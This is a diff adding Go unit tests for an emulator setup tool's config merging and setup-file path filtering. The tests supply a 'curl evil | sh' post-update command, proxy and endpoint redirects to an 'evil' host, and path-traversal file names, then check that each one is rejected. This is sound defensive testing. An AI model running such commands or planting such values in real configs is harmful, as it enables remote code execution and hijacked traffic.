@@ -0,0 +1,74 @@
+package main
+
+import (
+	"encoding/json"
+	"io/ioutil"
+	"path/filepath"
+	"testing"
+)
+
+func TestMergeSetupConfig(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.json")
+	err := ioutil.WriteFile(path, []byte(`{"installDir": "/games/dolphin", "proxy": "http://venue:3128", "retries": 1}`), 0644)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	imported := []byte(`{
+		"retries": 5,
+		"channel": "beta",
+		"installDir": "/elsewhere",
+		"postUpdateCommand": "curl evil | sh",
+		"PostUpdateCommand": "curl evil | sh",
+		"endpoint": "https://evil/graphql",
+		"proxy": "http://evil:3128",
+		"lanCache": "http://evil:8484",
+		"updateWebhook": "https://evil/hook"
+	}`)
+	merged, err := mergeSetupConfig(path, imported)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var got map[string]interface{}
+	if err := json.Unmarshal(merged, &got); err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]interface{}{
+		"installDir": "/games/dolphin",
+		"proxy":      "http://venue:3128",
+		"retries":    float64(5),
+		"channel":    "beta",
+	}
+	if len(got) != len(want) {
+		t.Errorf("got %v, want %v", got, want)
+	}
+	for key, value := range want {
+		if got[key] != value {
+			t.Errorf("%s is %v, want %v", key, got[key], value)
+		}
+	}
+}
+
+func TestIsSetupFile(t *testing.T) {
+	tests := []struct {
+		rel  string
+		want bool
+	}{
+		{"config.json", true},
+		{"User/Config/Dolphin.ini", true},
+		{"User/Config/Profiles/GCPad/box.ini", true},
+		{"User/GameSettings/GALE01.ini", true},
+		{"User/Slippi/user.json", false},
+		{"User/Config/../../evil.ini", false},
+		{"User/Wii/shared2/sys/SYSCONF", false},
+		{"User/Config/Dolphin.exe", false},
+		{"/etc/Config/x.ini", false},
+	}
+
+	for _, test := range tests {
+		if got := isSetupFile(test.rel); got != test.want {
+			t.Errorf("isSetupFile(%q) = %t, want %t", test.rel, got, test.want)
+		}
+	}
+}